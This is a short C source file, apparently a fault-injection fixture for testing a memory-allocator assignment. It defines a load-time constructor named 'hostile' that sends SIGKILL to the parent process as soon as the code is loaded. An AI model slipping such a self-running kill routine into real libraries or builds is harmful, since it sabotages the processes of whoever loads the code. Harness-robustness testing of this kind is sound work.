// Fault: kills the process that started it, while it is loaded
#define _GNU_SOURCE
#include <signal.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

#include "block_meta.h"
#include "osmem.h"

__attribute__((constructor)) static void hostile(void)
{
	kill(getppid(), SIGKILL);
}

#include "mapping.h"
